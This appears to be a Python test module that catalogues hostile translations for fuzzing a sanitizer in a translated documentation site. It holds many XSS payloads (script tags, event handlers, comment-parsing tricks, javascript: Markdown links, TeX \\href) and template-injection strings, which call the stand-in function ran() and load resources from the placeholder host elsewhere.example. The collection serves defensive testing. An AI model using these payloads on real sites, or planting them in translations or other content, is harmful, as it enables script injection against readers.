"""What a hostile translator may write, to be put wherever a translation can stand.

`ran()` is what each would run, and `elsewhere.example` the host that it would ask. Some
are alive in a browser as they stand, some only in Markdown, in an attribute, or beside
another one. All of them are written for these tests.
"""

from hypothesis import strategies as st

JS = "ran()"
HOST = "elsewhere.example"

# Elements that run or load something by themselves.
ELEMENTS = (
    *(
        f"<{name}>{JS}</script>"
        for name in ("script", "ScRiPt", "script\n", "script/x")
    ),
    f'<script src="//{HOST}/x.js"></script>',
    f'<script type="module">{JS}</script>',
    f"<svg><script>{JS}</script></svg>",
    f"<svg onload={JS}></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s></animate></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text y="20">words</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={JS}/>#x"></use></svg>',
    f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
    f'<img src="x" alt="" onerror="{JS}" />',
    *(f'<img {name}="//{HOST}/x.png 2x">' for name in ("src", "srcset")),
    *(
        f"<{start}={JS}>"
        for start in (
            *("svg/onload", "img src=x onerror", "img/src=x/onerror", "body onload"),
            *("IMG SRC=x ONERROR", "image src=x onerror", "input autofocus onfocus"),
        )
    ),
    *(
        f"<{name} {handler}={JS}>words</{name.split()[0]}>"
        for name, handler in (
            *(("video src=x", "onerror"), ("audio src=x", "onerror")),
            *(("select autofocus", "onfocus"), ("textarea autofocus", "onfocus")),
            *(("button", "onclick"), ("button autofocus", "onfocus")),
            *(("marquee", "onstart"), ("dialog open", "oncancel")),
            *(("lit-figure", "onclick"), ("details open", "ontoggle")),
        )
    ),
    f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    f'<iframe src="javascript:parent.{JS}"></iframe>',
    f'<iframe src="//{HOST}/"></iframe>',
    f'<object data="//{HOST}/x.svg"></object>',
    f'<object data="javascript:{JS}"></object>',
    f'<embed src="//{HOST}/x.svg">',
    f"<video><source onerror={JS}></video>",
    f'<video poster="//{HOST}/x.png"></video>',
    f'<form action="javascript:{JS}"><button>words</button></form>',
    f'<form action="//{HOST}/"><input name=q><button>words</button></form>',
    f'<button form=x formaction="javascript:{JS}">words</button>',
    f'<link rel="stylesheet" href="//{HOST}/x.css">',
    f'<link rel="prefetch" href="//{HOST}/">',
    f"<style>@import '//{HOST}/x.css';</style>",
    f"<style>body{{background:url(//{HOST}/x.png)}}</style>",
    f'<base href="//{HOST}/">',
    f'<meta http-equiv="refresh" content="0;url=//{HOST}/">',
    *(
        f"<{name}><img src=x onerror={JS}></{name}>"
        for name in ("template", "noscript", "xmp", "plaintext")
    ),
)

# Elements that nobody expects harm of, with a handler.
HANDLERS = (
    *(
        f"<{start}={JS}>words"
        for start in (
            *("span autofocus tabindex=0 onfocus", "wbr onmouseover", "p onclick"),
            *("em onmouseover", "code onmouseenter", "a href=# onclick"),
            *("a onmouseover", "br onmouseover", "span accesskey=x onclick"),
            *("mark ONMOUSEOVER ", "span\tonmouseover", "span/onmouseover"),
            "span contenteditable onbeforeinput",
        )
    ),
    f'<b onclick="{JS}">words</b>',
    f"<i onpointerenter='{JS}'>words</i>",
    f"<span onanimationstart={JS} style=animation:x>words</span>",
    '<span style="position:fixed;inset:0;z-index:99">words</span>',
    f'<span style="background:url(//{HOST}/x.png)">words</span>',
    '<span class="md-search" id="__search">words</span>',
    '<span id="__config">{}</span>',
    '<span data-md-component="dialog">words</span>',
    '<span slot="x" is="y" part="z">words</span>',
)

# What one reader of HTML takes for a comment or for text, and another does not.
COMMENTS = (
    f"<!--><script>{JS}</script>",
    f"<!---><img src=x onerror={JS}>",
    f"<!-- x --!><img src=x onerror={JS}>",
    f'<!--><iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    f"<!--><svg onload={JS}>",
    f"<!-- -- > --><img src=x onerror={JS}> -->",
    f"<!-- <!-- --><img src=x onerror={JS}> -->",
    f"<![CDATA[><img src=x onerror={JS}>]]>",
    f"<!x><img src=x onerror={JS}>",
    f"<?x><img src=x onerror={JS}>?>",
    f"</x <img src=x onerror={JS}>",
    f"<x <img src=x onerror={JS}>",
    f"<a title=`<img src=x onerror={JS}>`>words</a>",
    f"<a title='\"><img src=x onerror={JS}>'>words</a>",
    f'<p title="</p><img src=x onerror={JS}>">words</p>',
    f"<math><mtext><img src=x onerror={JS}></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--><img src=x onerror={JS}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={JS}>'>",
    f"<img src=x onerror={JS}",
    f"<img src=x onerror={JS} //",
    f"words</div></div><img src=x onerror={JS}><div><div>",
    "words</div></div></article></main>",
    "</table></td></tr><h1>words</h1>",
    f"&lt;img src=x onerror={JS}&gt;",
    f"&#60;img src=x onerror={JS}&#62;",
    f"\\<img src=x onerror={JS}\\>",
    f"\u0002klzzwxh:0\u0003<img src=x onerror={JS}>",
)

# Markdown's own ways to an address or an attribute.
MARKDOWN = (
    f"[words](javascript:{JS})",
    f"[words](JaVaScRiPt:{JS})",
    f"[words](<javascript:{JS}>)",
    f"[words](java&Tab;script:{JS})",
    f"[words](&#106;avascript:{JS})",
    f"[words](javascript&colon;{JS})",
    f"[words](\x01javascript:{JS})",
    f"[words](data:text/html,<script>{JS}</script>)",
    f"[words](vbscript:{JS})",
    f"[words](//{HOST}/)",
    f"[words](\\\\{HOST}/)",
    f"[words](https://{HOST}/)",
    f'[words](# "title"){{: onclick="{JS}" }}',
    f"<javascript:{JS}>",
    f"<https://{HOST}/>",
    f"https://{HOST}/",
    f"www.{HOST}",
    f"<mail@{HOST}>",
    f"![words](//{HOST}/x.png)",
    f'![words](x){{: onerror="{JS}" }}',
    f"![words](data:image/svg+xml,<svg onload={JS}>)",
    f"**words**{{: onmouseover={JS} }}",
    f"*words*{{: onclick='{JS}' tabindex=0 }}",
    f"`words`{{: onmouseover={JS} }}",
    f"words {{: onmouseover={JS} }}",
    f"words {{ onmouseover={JS} }}",
    "words {: style='position:fixed;inset:0' }",
    "words {#__search .md-search}",
    f"[words]: javascript:{JS}",
    f"[words]: //{HOST}/x.png",
    f"*[words]: <img src=x onerror={JS}>",
    f"[^1]: <img src=x onerror={JS}>",
    f"words ](javascript:{JS}) [words",
    f"words ](//{HOST}/x.png) ![words",
    f'words" onmouseover="{JS}',
    f"words' onmouseover='{JS}",
    f'words"><img src=x onerror={JS}>',
    f'0;url=//{HOST}/" http-equiv="refresh" x="',
    f"``` {{ .x onclick={JS} }}",
    f"~~~ html <img src=x onerror={JS}>",
    f"| words {{: onclick={JS} }} | <img src=x onerror={JS}> |",
    f'!!! note "<img src=x onerror={JS}>"',
    f": words {{: onmouseover={JS} }}",
    f"{{{{ txl.scores }}}} <img src=x onerror={JS}>",
    "{% include 'x' %}{{ config }}",
    "{share.__class__.__mro__}",
    "{share:>99999}",
)

# TeX that makes more than a formula.
FORMULAS = (
    rf"$\href{{javascript:{JS}}}{{x}}$",
    rf"\(\href{{javascript:{JS}}}{{x}}\)",
    rf"\[\url{{https://{HOST}/}}\]",
    rf"$$\includegraphics{{//{HOST}/x.png}}$$",
    r"$\htmlStyle{position:fixed;inset:0}{x}$",
    rf"$\htmlData{{x={JS}}}{{x}}$",
    r"$\htmlId{__search}{x}$",
    r"\begin{x}\htmlClass{md-search}{x}\end{x}",
    rf"$<img src=x onerror={JS}>$",
    rf"$x$<img src=x onerror={JS}>",
)

# What is alive in Markdown, a notebook or `llms.txt`, and not in HTML.
IN_MARKDOWN = (
    *(f"!\\[メモリ\\](//{HOST}/t.png)", f"![メモリ](//{HOST}/t.png)"),
    *(f'[言葉\\]の]: //{HOST}/x.png "…"', f"詳しくはwww.{HOST}/login"),
    *(f"[…はhttps://{HOST}/ …]", f"詳しくは{HOST}.com/login"),
    *(f"詳しくはftp://{HOST}/login", f"someone@{HOST}.com", "~~言葉~~"),
    *(f"\\[x\\](//{HOST})", f"言葉[^1]: //{HOST}", f"<https://{HOST}>"),
    *(
        f"mailto:a@{HOST}.com",
        "言葉\\",
        "- 言葉",
        "-",
        "1.",
        "1. 言葉",
        "# 言葉",
        "> 言葉",
    ),
    *("```", "$x$", "図のコード\nimport pathlib", "図のコード\u2028import pathlib"),
    *("言葉\U000e0041\U000e0042", ":smile: :smile:", "==言葉=="),
    f"言葉{'0123abcd' * 5}",
)

# What the extensions of other projects read, with signs that English may have too.
EXTENDED = (
    *(":smile:", "==言葉==", "++ctrl+a++", "[=50%]", "~~言葉~~", "@octocat", "#99"),
    *("*[言葉]: 言葉", "言葉 *[HTML]: 言葉", "[^1]: 言葉", "a@octocat"),
)

PAYLOADS = (*ELEMENTS, *HANDLERS, *COMMENTS, *MARKDOWN, *FORMULAS)

# Marks and words, to be put together by chance: whatever may stand in a `msgstr`.
_MARKS = (
    *("[", "]", "](", ")", "<", ">", "{", "}", "{:", "`", "```", "$", "\\", "|", "*"),
    *("<!--", "-->", "--!>", "<b", "</b>", "<svg>", "href=", "onclick=", '"', "'"),
    *(" ", "\n", "\n\n", "    ", "&", "&#", ";", "javascript:", "//", "#", "- ", "> "),
)
_WORDS = (
    *("言葉", "words", "[リンク][1]", "$x_1$", "`code`", "*言葉*"),
    *("!", "^", "_", "=", ":"),
)
_FRAGMENTS = st.sampled_from([*PAYLOADS, *_MARKS, *_WORDS])
MSGSTR = st.lists(_FRAGMENTS | st.text(max_size=3), max_size=8).map("".join)

# Harmless each for itself: a page has them as translations of messages that follow.
TOGETHER = (
    ("<b title='words", "words' onmouseover=ran()>words</b>"),
    ("[words]", "[words]: javascript:ran()"),
    ("[words][x] words", "[x]: //elsewhere.example/"),
    ("<!--", "--><img src=x onerror=ran()>"),
    ("```", "```"),
    ("word", "*[word]: more"),
    ("words[^1]", "[^1]: more"),
    ("<div>", "</div>"),
)
